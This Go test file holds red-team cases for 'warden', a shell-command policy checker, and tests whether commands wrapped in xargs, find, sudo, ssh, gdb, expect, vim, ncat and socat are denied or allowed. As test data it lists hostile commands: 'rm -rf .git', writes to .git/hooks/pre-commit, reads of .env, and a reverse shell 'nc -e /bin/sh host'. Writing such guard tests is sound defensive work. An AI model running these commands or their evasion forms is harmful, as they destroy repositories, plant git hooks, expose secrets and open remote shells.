package engine_test

import (
	"os/exec"
	"strings"
	"testing"
)

// Red-team tests of wrappers and of find, xargs and the words one program hands to another.

// find walks "." when given no starting point; its -exec command ends at
// "+" only right after "{}".
func TestRedteam5Find(t *testing.T) {
	t.Parallel()
	checkProgs5(t, []soundCase{
		// Findings.
		{"find -delete without a starting point", sh("find -delete"), "deny"},
		{"find -name -delete without a starting point", sh("find -name config -delete"), "deny"},
		{"find -files0-from -delete", sh("find -files0-from list -delete"), "notAllow"},
		{"find -exec with a + inside the command", sh(`find . -exec rm -rf + .git \;`), "notAllow"},
		{"find -exec + not after {}", sh(`find src/a.go -exec rm -rf + .git \;`), "notAllow"},
		// Handled.
		{"handled: find . -delete", sh("find . -name config -delete"), "deny"},
		// Allowed.
		{"find -name", sh("find src -name '*.go'"), "allow"},
		{"find -print", sh("find . -name '*.go' -print"), "allow"},
		{"find -exec {} + then more", sh("find pkg -exec echo {} + -name x"), "allow"},
		{"find -delete in a clean folder", sh("find pkg/evil -name '*.tmp' -delete"), "allow"},
	})
}

// The shell package finds the command of a wrapper with its own short list
// of value-taking options: forms it reads otherwise than the program are
// not vouched for. xargs -i sh echo runs "sh echo" (the script ./echo),
// where the shell package saw "echo".
func TestRedteam5Wrappers(t *testing.T) {
	t.Parallel()
	checkProgs5(t, []soundCase{
		// Findings.
		{"xargs -i without a value", sh("echo x | xargs -i sh echo"), "notAllow"},
		{"xargs -l without a value", sh("echo x | xargs -l sh echo"), "notAllow"},
		{"xargs -e without a value", sh("echo x | xargs -e sh echo"), "notAllow"},
		{"xargs --replace without a value", sh("echo x | xargs --replace sh echo"), "notAllow"},
		{"xargs --arg abbreviated", sh("echo x | xargs --arg echo sh"), "notAllow"},
		{"sudo -R", sh("sudo -R echo sh -c id"), "notAllow"},
		// Allowed.
		{"xargs -I{}", sh("echo x | xargs -I{} echo {}"), "allow"},
		{"xargs -i{} attached", sh("echo x | xargs -i{} echo {}"), "allow"},
		{"xargs -n 1", sh("echo x | xargs -n 1 echo"), "allow"},
		{"xargs --max-args=1", sh("echo x | xargs --max-args=1 echo"), "allow"},
		{"env -u", sh("env -u FOO ls src"), "allow"},
		{"timeout --signal=KILL", sh("timeout --signal=KILL 5 ls"), "allow"},
		{"nice -5", sh("nice -5 ls"), "allow"},
		{"stdbuf -oL", sh("stdbuf -oL ls"), "allow"},
	})
}

// Words handed to another program: go test -args to the test binary
// (-test.cpuprofile=F writes F in the package's folder), cargo test --
// to libtest (--logfile F writes F), cargo clippy -- to rustc (@FILE).
func TestRedteam5PassedWords(t *testing.T) {
	t.Parallel()
	checkProgs5(t, []soundCase{
		// Findings.
		{"go test -args writes in the package's folder", sh("go test ./src -args -test.cpuprofile=hooks/pre-commit"), "notAllow"},
		{"go test ./... -args", sh("go test ./... -args -test.trace=hooks/pre-commit"), "notAllow"},
		{"go test -args an unknown test flag", sh("go test . -args -test.frob=x"), "notAllow"},
		{"cargo test -- --logfile=", sh("cargo test -- --logfile=.git/hooks/pre-commit"), "deny"},
		{"cargo test -- --logfile", sh("cargo test -- --logfile .git/hooks/pre-commit"), "deny"},
		{"cargo bench -- --logfile", sh("cargo bench -- --logfile .git/hooks/pre-commit"), "deny"},
		{"cargo clippy -- @FILE", sh("cargo clippy -- @.env"), "notAllow"},
		{"cargo clippy -- -C linker", sh("cargo clippy -- -C linker=./x"), "notAllow"},
		{"cargo fmt -- --print-config", sh("cargo fmt -- --print-config default .git/config"), "notAllow"},
		// Handled.
		{"handled: go test . -args into .git", sh("go test . -args -test.cpuprofile=.git/hooks/pre-commit"), "deny"},
		// Allowed.
		{"go test", sh("go test ./..."), "allow"},
		{"go test -args -test.v", sh("go test . -args -test.v"), "allow"},
		{"go test -args -test.run", sh("go test ./... -args -test.run=TestX"), "allow"},
		{"go test -args a profile here", sh("go test . -args -test.cpuprofile=cpu.out"), "allow"},
		{"go test -args a custom flag", sh("go test ./... -args -update"), "allow"},
		{"cargo test -- --nocapture", sh("cargo test -- --nocapture"), "allow"},
		{"cargo test -- --test-threads", sh("cargo test -- --test-threads 1 --exact mytest"), "allow"},
		{"cargo clippy -- -D warnings", sh("cargo clippy -- -D warnings"), "allow"},
		{"cargo clippy -- -Dclippy::all", sh("cargo clippy -- -Dclippy::all -W clippy::pedantic"), "allow"},
		{"cargo fmt -- --check", sh("cargo fmt -- --check"), "allow"},
		{"cargo run -- ARGS", sh("cargo run -- --port 8080"), "allow"},
	})
}

// xargs -e, -i and -l take a value only attached; long options are
// abbreviated; with -I R (or -i) the words holding R are the input's.
func TestRedteam5WrapXargs(t *testing.T) {
	t.Parallel()
	checkWrap5(t, []soundCase{
		// Findings.
		{"xargs --max-lines without a value", sh("echo x | xargs --max-lines rm -rf .git"), "deny"},
		// Refused before by other checks (a table's risk, the check of
		// every word of a program without a table against the protected
		// paths); now read as the program reads them.
		{"xargs -i without a value", sh("echo x | xargs -i rm -rf .git"), "deny"},
		{"xargs -l without a value", sh("echo x | xargs -l rm -rf .git"), "deny"},
		{"xargs -e without a value", sh("echo x | xargs -e rm -rf .git"), "deny"},
		{"xargs --replace without a value", sh("echo x | xargs --replace rm -rf .git"), "deny"},
		{"xargs --arg abbreviated", sh("echo x | xargs --arg list rm -rf .git"), "deny"},
		{"xargs -I R in a program's operand", sh("echo 'rm -rf .git' | xargs -I ls env ls"), "notAllow"},
		{"xargs -I R in sh -c", sh("echo 'rm -rf .git' | xargs -I ls sh -c ls"), "notAllow"},
		{"xargs -i {} in env", sh("echo rm | xargs -i env {} -rf .git"), "notAllow"},
		// Handled.
		{"handled: xargs -i sh echo", sh("echo x | xargs -i sh echo"), "notAllow"},
		// Allowed.
		{"xargs -I{}", sh("echo x | xargs -I{} echo {}"), "allow"},
		{"xargs -i{} attached", sh("echo x | xargs -i{} echo {}"), "allow"},
		{"xargs -n 1", sh("echo x | xargs -n 1 echo"), "allow"},
		{"xargs --max-args=1", sh("echo x | xargs --max-args=1 echo"), "allow"},
		{"xargs --max-a 1", sh("echo x | xargs --max-a 1 echo"), "allow"},
		{"xargs -0 echo", sh("find src -name '*.go' -print0 | xargs -0 echo"), "allow"},
	})
}

// GNU find ends -exec and -execdir at "+" only after a word holding {},
// and -ok and -okdir at ";" alone.
func TestRedteam5WrapFind(t *testing.T) {
	t.Parallel()
	checkWrap5(t, []soundCase{
		// Findings.
		{"find -exec + inside the command", sh(`find . -exec rm -rf + .git \;`), "deny"},
		{"find -ok + after {}", sh(`yes | find . -ok rm -rf {} + .git \;`), "deny"},
		// Refused before by other checks (a table's risk, the check of
		// every word of a program without a table against the protected
		// paths); now read as the program reads them.
		{"find -okdir + after {}", sh(`yes | find src -okdir rm -rf {} + ../.git \;`), "notAllow"},
		{"find -exec + after a computed word", sh(`find . -exec rm "$x" + -delete`), "notAllow"},
		// Allowed.
		// (grep {} is a computed read, which a policy with private paths
		// asks for.)
		{"find -exec echo {} +", sh("find . -name '*.go' -exec echo {} +"), "allow"},
		{"find -exec {} ;", sh(`find src -name '*.go' -exec echo x {} \;`), "allow"},
		{"find -exec {} + then more", sh("find pkg -exec echo {} + -name x"), "allow"},
		{"find -execdir {} +", sh("find src -name '*.go' -execdir echo {} +"), "allow"},
	})
}

// Long options abbreviated, options the wrapper table lacked, and the
// forms that run a shell reading the standard input.
func TestRedteam5WrapOptions(t *testing.T) {
	t.Parallel()
	checkWrap5(t, []soundCase{
		// Findings.
		{"sudo -e", sh("sudo -e .git/config"), "deny"},
		{"sudo -s reads a pipe", sh("echo 'rm -rf .git' | sudo -s"), "notAllow"},
		{"sudo -i reads a pipe", sh("echo 'rm -rf .git' | sudo -i"), "notAllow"},
		{"env -S with operands after", sh("env -Srm -rf .git"), "deny"},
		{"env --split abbreviated", sh("env --split='rm -rf .git'"), "deny"},
		{"runuser USER -c", sh("runuser root -c 'rm -rf .git'"), "deny"},
		{"su reads a pipe", sh("echo 'rm -rf .git' | su"), "notAllow"},
		{"su -c computed", sh(`su root -c "$x"`), "notAllow"},
		{"watch a computed command", sh(`watch "$x"`), "notAllow"},
		{"chroot reads a pipe", sh("echo 'rm -rf .git' | chroot /"), "notAllow"},
		{"doas -s reads a pipe", sh("echo 'rm -rf .git' | doas -s"), "notAllow"},
		{"strace -o a pipe", sh("strace -o '|rm -rf .git' ls"), "deny"},
		{"an option the wrapper does not take", sh("setsid --frob ls"), "notAllow"},
		// Refused before by other checks (a table's risk, the check of
		// every word of a program without a table against the protected
		// paths); now read as the program reads them.
		{"sudo -R", sh("sudo -R /tmp rm -rf .git"), "deny"},
		{"sudo --chr", sh("sudo --chr /tmp rm -rf .git"), "deny"},
		{"timeout --sig abbreviated", sh("timeout --sig KILL 5 rm -rf .git"), "deny"},
		{"timeout --k abbreviated", sh("timeout --k 1 5 rm -rf .git"), "deny"},
		{"env --un abbreviated", sh("env --un FOO rm -rf .git"), "deny"},
		{"env --ch abbreviated", sh("env --ch src rm -rf ../.git"), "notAllow"},
		{"env -", sh("env - rm -rf .git"), "deny"},
		{"nice --adj abbreviated", sh("nice --adj 5 rm -rf .git"), "deny"},
		{"stdbuf --out abbreviated", sh("stdbuf --out L rm -rf .git"), "deny"},
		{"flock -c is only after the file", sh("flock /tmp/l tar -c echo -f .git/hooks/pre-commit"), "deny"},
		{"flock --time abbreviated", sh("flock --time 1 /tmp/l rm -rf .git"), "deny"},
		{"flock -c computed", sh(`flock /tmp/l -c "$x"`), "notAllow"},
		{"runuser -w", sh("runuser -u root -w PATH rm -rf .git"), "deny"},
		{"runuser -s", sh("runuser -s /bin/rm -- root -rf .git"), "deny"},
		{"runuser reads a pipe", sh("echo 'rm -rf .git' | runuser root"), "notAllow"},
		{"su -s", sh("su -s /bin/rm -- root -rf .git"), "deny"},
		{"watch -d without a value", sh("watch -d rm -rf .git"), "deny"},
		{"watch -x", sh("watch -x sh -c 'rm -rf .git'"), "deny"},
		{"time -o", sh("command time -o .git/hooks/pre-commit ls"), "deny"},
		{"strace -o", sh("strace -o .git/hooks/pre-commit ls"), "deny"},
		// Allowed.
		{"timeout 5 go test", sh("timeout 5 go test ./..."), "allow"},
		{"timeout -s KILL", sh("timeout -s KILL 5 ls"), "allow"},
		{"timeout --signal=KILL", sh("timeout --signal=KILL 5 ls"), "allow"},
		{"nice -n", sh("nice -n 5 ls"), "allow"},
		{"nice -5", sh("nice -5 ls"), "allow"},
		{"stdbuf -oL", sh("stdbuf -oL ls"), "allow"},
		{"env -u", sh("env -u FOO ls src"), "allow"},
		{"env -i", sh("env -i ls src"), "allow"},
		{"sudo -u", sh("sudo -u nobody ls src"), "allow"},
		{"sudo -E", sh("sudo -E ls src"), "allow"},
		{"flock FILE CMD", sh("flock /tmp/l ls src"), "allow"},
		{"flock FILE -c", sh("flock -w 5 /tmp/l -c 'ls src'"), "allow"},
		{"watch -n", sh("watch -n 1 ls src"), "allow"},
		{"watch -x", sh("watch -x ls src"), "allow"},
		{"runuser -u", sh("runuser -u nobody -- ls src"), "allow"},
		{"su -c", sh("su nobody -c 'ls src'"), "allow"},
		{"setsid", sh("setsid -f ls src"), "allow"},
		{"ionice -c", sh("ionice -c 3 ls src"), "allow"},
		{"chrt", sh("chrt -o 0 ls src"), "allow"},
		{"taskset", sh("taskset -c 0 ls src"), "allow"},
	})
}

// Files named inside a file: the list is read, and so is every file it
// names, which warden cannot see.
func TestRedteam5WrapListedFiles(t *testing.T) {
	t.Parallel()
	checkWrap5(t, []soundCase{
		// Findings.
		{"sort --files0-from", sh("sort --files0-from=list"), "notAllow"},
		{"wc --files0-from", sh("wc -l --files0-from list"), "notAllow"},
		{"du --files0-from", sh("du --files0-from=list"), "notAllow"},
		{"file -f", sh("file -f list"), "notAllow"},
		{"tar -c -T", sh("tar -c -T list -f pkg/out.tar"), "notAllow"},
		{"tar --files-from", sh("tar -cf pkg/out.tar --files-from=list"), "notAllow"},
		{"tar cTf", sh("tar cTf list pkg/out.tar"), "notAllow"},
		{"tar --null -T", sh("tar -c --null -T list -f pkg/out.tar"), "notAllow"},
		// Refused before by other checks (a table's risk, the check of
		// every word of a program without a table against the protected
		// paths); now read as the program reads them.
		{"rsync --files-from", sh("rsync -a --files-from=list . pkg/x/"), "notAllow"},
		// Handled.
		{"handled: sort --files0-from=.env", sh("sort --files0-from=.env"), "deny"},
		// Allowed.
		{"sort", sh("sort src/a.go"), "allow"},
		{"wc -l", sh("wc -l src/a.go"), "allow"},
		{"du -sh", sh("du -sh src"), "allow"},
		{"tar -cf", sh("tar -cf pkg/out.tar src/a.go"), "allow"},
		{"tar -x -T", sh("tar -x -T list -f pkg/out.tar"), "notAllow"},
	})
}

// Class 7 of issue 31, programs that run a command they are given: npm
// exec -- rm -rf x was judged as npm alone, git bisect run and submodule
// foreach only stopped an allow, and fakeroot, setpriv, script -c, tmux
// new and the others were programs warden had no table for, so a deny
// rule for the command they ran never met it. They are now wrappers
// (shell/wrap.go, shell/runners.go) or table entries whose command is
// judged with all its words (progs.Result.Runs, Shell effects).
func TestRunnersJudgeTheirCommand(t *testing.T) {
	t.Parallel()
	forms := []string{
		"git bisect run INNER", "git submodule foreach 'INNER'", "git filter-branch --tree-filter 'INNER' HEAD",
		"git difftool -x 'INNER'", "git difftool --extcmd='INNER'",
		"npm exec -- INNER", "pnpm exec INNER", "yarn exec INNER", "uv run INNER", "npx cross-env A=1 INNER",
		"script -c 'INNER'", "script -qc 'INNER' /dev/null", "parallel INNER ::: a", "zip -TT 'INNER' x.zip a",
		"fakeroot INNER", "setpriv INNER", "prlimit --nofile=1024 INNER", "unshare INNER", "chronic INNER",
		"ifne INNER", "faketime '2020-01-01' INNER", "valgrind -q INNER", "ltrace INNER", "perf stat INNER",
		"hyperfine 'INNER'", "hyperfine --prepare 'INNER' 'true'", "tmux new -d 'INNER'", "screen -dm INNER",
		"direnv exec . INNER", "nix-shell --run 'INNER'", "sg grp 'INNER'", "sg grp -c 'INNER'",
		"dbus-run-session INNER", "cpulimit -l 50 INNER",
	}
	var cases []soundCase
	for _, f := range forms {
		cases = append(cases, soundCase{f, sh(strings.ReplaceAll(f, "INNER", "rm -rf src")), "deny"})
	}
	cases = append(cases,
		// What warden cannot read of them is a computed command.
		soundCase{"expect -c", sh("expect -c 'spawn ls'"), "notAllow"},
		// gdb's shell command runs its text through a shell: judged as
		// that line (TestRunnersTextMeetsDenyRules).
		soundCase{"gdb -ex shell", sh("gdb -batch -ex 'shell ls' ./prog"), "allow"},
		soundCase{"gdb -ex python", sh("gdb -batch -ex 'python import os' ./prog"), "notAllow"},
		soundCase{"gdb -x FILE", sh("gdb -x cmds.gdb ./prog"), "notAllow"},
		soundCase{"parallel reading commands from its input", sh("parallel < cmds.txt"), "notAllow"},
		soundCase{"tmux send-keys", sh("tmux send-keys -t 0 'ls' Enter"), "notAllow"},
		soundCase{"fakeroot with an option it does not know", sh("fakeroot --frob ls"), "notAllow"},
		soundCase{"script without -c starts a shell", sh("script out.log"), "notAllow"},
		soundCase{"a protected path in the command", sh("setpriv --reset-env sh -c 'echo x > .git/config'"), "deny"},
		soundCase{"git submodule update", sh("git submodule update --init"), "notAllow"},
		// Controls: everyday uses stay allowed under default: allow.
		soundCase{"npm exec of a tool", sh("npm exec -- tsc --noEmit"), "allow"},
		soundCase{"uv run pytest", sh("uv run pytest -q"), "allow"},
		soundCase{"valgrind a test program", sh("valgrind -q --leak-check=full ./build/test"), "allow"},
		soundCase{"perf stat ls", sh("perf stat ls src"), "allow"},
		soundCase{"tmux ls", sh("tmux ls"), "allow"},
		soundCase{"git bisect log", sh("git bisect log"), "allow"},
		soundCase{"git submodule status", sh("git submodule status"), "allow"},
		soundCase{"gdb bt", sh("gdb -batch -ex bt ./prog core"), "allow"},
		soundCase{"hyperfine of a build", sh("hyperfine --warmup 1 'go build ./...'"), "allow"},
	)
	checkAllowDefault(t, cases)
}

// The premise, with the programs installed here: each runs the command it
// is given.
func TestRunnersRunTheirCommand(t *testing.T) {
	t.Parallel()
	for _, f := range []string{"script -qc 'INNER' /dev/null", "setpriv INNER", "prlimit --nofile=1024 INNER",
		"fakeroot INNER", "dbus-run-session INNER", "zip -q -T -TT 'INNER' x.zip /etc/hostname"} {
		if _, err := exec.LookPath(strings.Fields(f)[0]); err != nil {
			continue
		}
		bashRunsInner(t, f)
	}
}

// Class 1 and 7 of issue 31, the text a runner is given: gdb -ex 'shell
// CMD', expect -c, make --eval, ssh -o ProxyCommand and the wrappers
// rlwrap, entr and systemd-run only asked as computed commands (or were
// allowed as programs warden has no table for), so the literal command
// they run never met a deny rule or a protected path. The literal text is
// now judged as a line; what warden cannot read of it stays a computed
// command.
func TestRunnersTextMeetsDenyRules(t *testing.T) {
	t.Parallel()
	forms := []string{
		"gdb -batch -ex 'shell INNER' ./prog", "gdb -batch -ex '!INNER'", "gdb --eval-command='shell INNER'",
		"expect -c 'spawn INNER'", "expect -c 'spawn -noecho INNER; expect eof'", "expect -c 'exec INNER'",
		"expect -c 'exec sh -c {INNER}'", "expect -c 'system INNER'",
		"make --eval='x: ; INNER' x", "make -E 'x: ; INNER' x", "make --eval=$'x:\\n\\t@INNER' x",
		"make --eval='X := $(shell INNER)' all",
		"ssh -o ProxyCommand='INNER' host", "ssh -oProxyCommand='INNER' host", "ssh -o 'proxycommand INNER' host",
		"ssh host -o ProxyCommand='INNER'", "ssh -o LocalCommand='INNER' -o PermitLocalCommand=yes host",
		"ssh -o KnownHostsCommand='INNER' host",
		"rlwrap INNER", "entr INNER", "systemd-run --user INNER", "systemd-run --user --scope INNER",
	}
	var cases []soundCase
	for _, f := range forms {
		cases = append(cases, soundCase{f, sh(strings.ReplaceAll(f, "INNER", "rm -rf src")), "deny"})
	}
	cases = append(cases,
		// A protected path in the text is refused as protected.
		soundCase{"gdb shell writes .git", sh("gdb -batch -ex 'shell echo x > .git/config'"), "deny"},
		soundCase{"make recipe writes .git", sh("make --eval='x: ; echo x > .git/config' x"), "deny"},
		soundCase{"ProxyCommand writes .git", sh("ssh -o ProxyCommand='sh -c \"echo x > .git/config\"' host"), "deny"},
		soundCase{"expect spawns a writer of .git", sh("expect -c 'spawn sh -c {echo x > .git/config}'"), "deny"},
		// What stays unread is a computed command: never allowed.
		soundCase{"expect spawn of a Tcl value", sh("expect -c 'spawn ssh [lindex $argv 0]; interact'"), "notAllow"},
		soundCase{"expect with a harmless spawn", sh("expect -c 'spawn ls'"), "notAllow"},
		soundCase{"make recipe with make variables", sh("make --eval='x: ; $(CC) -o $@ x.c' x"), "notAllow"},
		soundCase{"ProxyCommand with tokens", sh("ssh -o ProxyCommand='nc %h %p' host"), "notAllow"},
		soundCase{"gdb shell with no command", sh("gdb -batch -ex shell ./prog"), "notAllow"},
		soundCase{"gdb long option with two dashes", sh("gdb --batch --eval-command='python import os' ./prog"), "notAllow"},
		soundCase{"gdb --command=FILE", sh("gdb --command=cmds.gdb ./prog"), "notAllow"},
		soundCase{"rlwrap filter runs a program", sh("rlwrap -z pipeto ls"), "notAllow"},
		soundCase{"entr -s runs a shell line", sh("entr -s 'make'"), "notAllow"},
		soundCase{"systemd-run property", sh("systemd-run -p ExecStartPre=/bin/true ls"), "notAllow"},
		// Controls.
		soundCase{"gdb bt", sh("gdb -batch -ex bt ./prog core"), "allow"},
		soundCase{"gdb shell ls", sh("gdb -batch -ex 'shell ls src'"), "allow"},
		soundCase{"entr of the tests", sh("ls src/*.go | entr -c go test ./..."), "allow"},
		soundCase{"rlwrap of a tool", sh("rlwrap -c go version"), "allow"},
	)
	checkAllowDefault(t, cases)
}

// Programs warden had no table for that run a command they are given:
// vim's :!CMD (-c, --cmd, +CMD), ncat and netcat -e and -c, socat's EXEC:
// and SYSTEM: addresses, tcpdump -z were allowed under default: allow
// (a program warden does not know), so a deny rule for the command they
// run never met it; emacs --eval and at (which runs its input later)
// were allowed too. The literal command is judged as a line; what warden
// cannot read is a computed command.
func TestProgramsThatRunGivenCommands(t *testing.T) {
	t.Parallel()
	forms := []string{
		"vim -c '!INNER' f", "vim -c 'silent !INNER' f", "vim -c ':r !INNER' f", "vim +'!INNER' f", "nvim --cmd '!INNER'",
		"ncat -c 'INNER' host 1", "ncat --sh-exec 'INNER' -l 8080", "nc -c 'INNER' host 1",
		"socat - EXEC:'INNER'", "socat - SYSTEM:'INNER',pty", "socat TCP-LISTEN:80 system:'INNER'",
	}
	var cases []soundCase
	for _, f := range forms {
		cases = append(cases, soundCase{f, sh(strings.ReplaceAll(f, "INNER", "rm -rf src")), "deny"})
	}
	cases = append(cases,
		soundCase{"vim writes a protected path through a shell", sh("vim -c '!echo x > .git/config' f"), "deny"},
		// tcpdump -z CMD runs CMD FILE: a deny rule for CMD meets it.
		soundCase{"tcpdump -z runs a program on the capture", sh("tcpdump -z rm -w cap"), "deny"},
		soundCase{"vim -c runs an ex command", sh("vim -c 'wq' f"), "notAllow"},
		soundCase{"vim -S runs a file of commands", sh("vim -S session.vim"), "notAllow"},
		soundCase{"emacs --eval", sh(`emacs --batch --eval '(shell-command "ls")'`), "notAllow"},
		soundCase{"nc -e of a shell", sh("nc -e /bin/sh host 1"), "notAllow"},
		soundCase{"ncat --lua-exec", sh("ncat --lua-exec x.lua -l 80"), "notAllow"},
		soundCase{"at runs its input later", sh("at now <<< 'ls'"), "notAllow"},
		soundCase{"batch", sh("echo ls | batch"), "notAllow"},
		// Controls.
		soundCase{"vim a file", sh("vim src/a.go"), "allow"},
		soundCase{"vim +LINE", sh("vim +10 src/a.go"), "allow"},
		soundCase{"emacs a file", sh("emacs -nw src/a.go"), "allow"},
		soundCase{"nc -z", sh("nc -z localhost 5432"), "allow"},
		soundCase{"socat of two sockets", sh("socat - TCP:localhost:80"), "allow"},
		soundCase{"tcpdump", sh("tcpdump -i lo -c 1"), "allow"},
		soundCase{"at -l", sh("at -l"), "allow"},
	)
	checkAllowDefault(t, cases)
}
